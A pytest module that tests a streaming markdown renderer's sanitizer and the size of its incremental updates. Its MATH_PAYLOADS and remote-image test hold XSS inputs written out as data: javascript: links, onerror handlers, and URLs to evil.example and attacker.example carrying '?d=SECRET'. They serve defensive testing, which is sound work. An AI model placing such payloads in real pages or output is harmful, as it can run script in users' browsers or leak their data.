"""The growing tail: rendered through the finished blocks' sanitizer at every length it can have, and sent as the
part of its markup that changed (bytes bounded by the text, never its square)."""

from __future__ import annotations

import json
import re

import pytest

from tests.support.markdown_parts import rebuilt
from tests.support.xss import CORPUS, DANGEROUS_TAGS, Findings
from ui.markdown import safe as markdown_safe
from ui.markdown.math import MATH_TAGS
from ui.markdown.safe import html_parts
from ui.markdown.tail import DIGITS, Tail, kept, packed, render_tail

MATH_PAYLOADS = (
    "$\\href{javascript:window.__pwned=1}{x}$",
    "$\\text{<img src=x onerror=window.__pwned=1>}$",
    "$\\style{background:url(https://evil.example/x)}{x}$",
    "$$\\href{https://evil.example/leak?d=SECRET}{y}$$",
    "\\(\\color{red}{z}\\) <math><mi href=javascript:alert(1)>m</mi></math>",
    "$x$<maction actiontype=statusline>y</maction>",
)


@pytest.fixture(autouse=True)
def no_deadline(monkeypatch: pytest.MonkeyPatch) -> None:
    """What this module measures is the markup between renders; a render the 2 s deadline cut short (a starved worker
    on a busy machine: seen with a 1,000-row table) shows its text as written, another path that
    tests/ui/test_render_bounds.py covers."""
    monkeypatch.setattr(markdown_safe, "DEADLINE", 600.0)


def prefixes(payload: str) -> list[str]:
    """Every length the tail has while the payload streams in (a character at a time)."""
    return [payload[:n] for n in range(1, len(payload) + 1)]


def clean(html: str) -> None:
    found = Findings(html)
    assert not found.handlers, found.handlers
    assert not found.bad_urls, found.bad_urls
    assert not set(found.tags) & (DANGEROUS_TAGS - {"math"}), found.tags
    assert all(s.replace(" ", "") in ("text-align:left", "text-align:right", "text-align:center") for s in found.styles)


@pytest.mark.parametrize("payload", CORPUS + MATH_PAYLOADS)
def test_no_prefix_of_a_known_payload_renders_a_script_handler_dangerous_url_or_tag_in_the_tail(payload: str) -> None:
    for tail in prefixes(payload):
        clean(render_tail(tail))


@pytest.mark.parametrize("payload", MATH_PAYLOADS)
def test_math_in_the_tail_is_mathml_with_no_link_style_or_html_inside(payload: str) -> None:
    html = render_tail(payload)
    for math in re.findall(r"<math\b.*?</math>", html, re.DOTALL):
        found = Findings(math)
        assert set(found.tags) <= MATH_TAGS, math
        assert not found.urls and not found.styles and " href=" not in math and "url(" not in math


def test_latex_that_smuggles_html_shows_as_its_source_text() -> None:
    html = render_tail("$\\text{<img src=x onerror=window.__pwned=1>}$")
    assert "<math" not in html and "&lt;img src=x onerror=window.__pwned=1&gt;" in html


def test_a_remote_image_in_the_tail_is_a_link_and_loads_nothing() -> None:
    for tail in prefixes("See ![chart](https://attacker.example/c?d=SECRET) now"):
        assert "<img" not in render_tail(tail)
    assert 'href="https://attacker.example/c?d=SECRET"' in render_tail(
        "See ![chart](https://attacker.example/c?d=SECRET"
    )


def extend(held: list[object], keep: object, new: list[object]) -> list[object]:
    """markdown_stream.js ``extend`` (the tail's text is ASCII here: UTF-16 units are characters)."""
    n, units = keep if isinstance(keep, list) else (keep, 0)
    assert isinstance(n, int) and isinstance(units, int)
    if not units:
        return held[:n] + new
    first, *more = new
    return [*held[:n], str(held[n])[:units] + str(first), *more]


def replay(messages: list[list[object]]) -> tuple[int, list[object]]:
    """What the browser holds after the tail messages (markdown_stream.js ``setTail``)."""
    start, parts = -1, list[object]()
    for s, _end, keep, new in messages:
        assert isinstance(s, int) and isinstance(new, list)
        parts = extend(parts if s == start else [], keep, new)
        start = s
    return start, parts


def test_a_growing_table_costs_its_new_rows_per_update_not_its_whole_markup_again() -> None:
    text = "| a | b |\n|---|--:|\n" + "\n".join(f"| r{n} | {n} |" for n in range(400))
    tail, messages = Tail(), []
    for at in range(60, len(text) + 60, 60):
        if (message := tail.update(0, min(at, len(text)), text[: min(at, len(text))])) is not None:
            messages.append(message)
    start, parts = replay(messages)
    assert start == 0 and rebuilt(text, parts) == rebuilt(text, html_parts(text, render_tail(text)))
    whole = len(json.dumps(html_parts(text, render_tail(text))))
    sent = sum(len(json.dumps(m[2:], separators=(",", ":"))) for m in messages)
    assert sent < 1.3 * whole, f"{sent} bytes sent for a table whose markup is {whole} bytes"


def test_a_growing_paragraph_costs_a_range_and_its_closing_tags_per_update_and_ends_as_its_render() -> None:
    text = "Some **bold** words, `code` and " + " ".join(f"word{n}" for n in range(3000))
    tail, messages, at = Tail(), [], 0
    for step in range(40, len(text) + 40, 40):
        at = min(step, len(text))
        if (message := tail.update(0, at, text[:at])) is not None:
            messages.append(message)
    start, parts = replay(messages)
    assert start == 0 and rebuilt(text, parts) == rebuilt(text, html_parts(text, render_tail(text)))
    sent = sum(len(json.dumps(m[2:], separators=(",", ":"))) for m in messages)
    assert sent < 40 * len(messages), f"{sent} bytes for {len(messages)} updates of a {len(text)}-character tail"


def test_an_unchanged_tail_sends_nothing() -> None:
    tail = Tail()
    assert tail.update(0, 5, "hello") is not None
    assert tail.update(0, 5, "hello") is None


def unpacked(sent: list[object], out: list[object] | None = None, prefix: str = "") -> list[object]:
    """markdown_stream.js ``unpacked``: ``sent`` appended to ``out`` (the parts kept before it)."""
    out = list(out or [])
    strings: list[object] = []
    cursor = next((p[1] for p in reversed(out) if isinstance(p, list)), 0)
    gap = -1

    def add(skip: int, length: int) -> None:
        nonlocal cursor, gap
        gap, cursor = skip, cursor + skip + length
        out.append([cursor - length, cursor])

    for p in sent:
        if isinstance(p, str):
            strings.append(p)
            out.append(prefix + p)
            prefix = ""
        elif isinstance(p, int):
            out.append(strings[p]) if p >= 0 else add(gap, -p)
        elif isinstance(p, list) and isinstance(p[1], list | str):
            given = [DIGITS.index(c) for c in p[1]] if isinstance(p[1], str) else p[1]
            period, lengths = int(p[0]), iter(given)
            ranges = sum(isinstance(q, list) for q in out[-period:])
            for _ in range(len(given) // ranges * period):
                at = len(out) - period
                if isinstance(out[at], list):
                    before = next((q for q in reversed(out[:at]) if isinstance(q, list)), [0, 0])
                    add(out[at][0] - before[1], next(lengths))
                else:
                    out.append(out[at])
        else:
            assert isinstance(p, list)
            add(int(p[0]), int(p[1]))
    return out


def test_packed_parts_give_back_the_parts_and_a_lists_repeated_markup_and_offsets_cost_a_few_bytes_an_item() -> None:
    text = "\n".join(f"- item 🙂 number {n} of many" for n in range(300))
    parts = html_parts(text, render_tail(text))
    assert unpacked(packed(parts)) == parts
    for n in (1, 2, 51, len(parts) - 1):
        assert unpacked(packed(parts[n:], n, parts), parts[:n]) == parts
    small, plain = len(json.dumps(packed(parts))), len(json.dumps(parts))
    assert small < 0.45 * plain and small < 0.3 * len(text), (small, plain, len(text))


def test_a_tables_short_cells_are_ranges_so_its_packed_markup_costs_about_its_text_not_four_times_it() -> None:
    text = "| name | n |\n|---|--:|\n" + "\n".join(f"| r{n:03d} | {n} |" for n in range(500))
    parts = html_parts(text, render_tail(text))
    assert rebuilt(text, parts) == render_tail(text)
    assert len(json.dumps(packed(parts), separators=(",", ":"))) < 1.2 * len(text) < 0.5 * len(render_tail(text))


def test_a_long_tables_packed_stream_costs_at_most_half_its_text_again_and_gives_back_every_render() -> None:
    rows = (f"| r{n % 1000:03d} | {n % 997} | w{n % 89:02d} |" for n in range(1000))
    text = "| name | n | word |\n|---|---:|---|\n" + "\n".join(rows)
    tail, held, sent = Tail(), list[object](), 0
    for at in [*range(600, len(text), 600), len(text)]:  # a long tail is rendered every so often, not per chunk
        message = tail.update(0, at, text[:at])
        assert message is not None
        _start, _end, keep, rest = message
        assert isinstance(keep, int | list) and isinstance(rest, list)
        wire = packed(rest, kept(keep), tail.parts)
        sent += len(json.dumps([*message[:3], wire], separators=(",", ":")))
        n, units = keep if isinstance(keep, list) else (keep, 0)
        held = unpacked(wire, held[:n], str(held[n])[:units] if units else "")
        assert held == tail.parts
    assert rebuilt(text, held) == render_tail(text)
    assert len(text) + sent <= 1.5 * len(text), f"{sent} bytes of markup for {len(text)} characters of table"
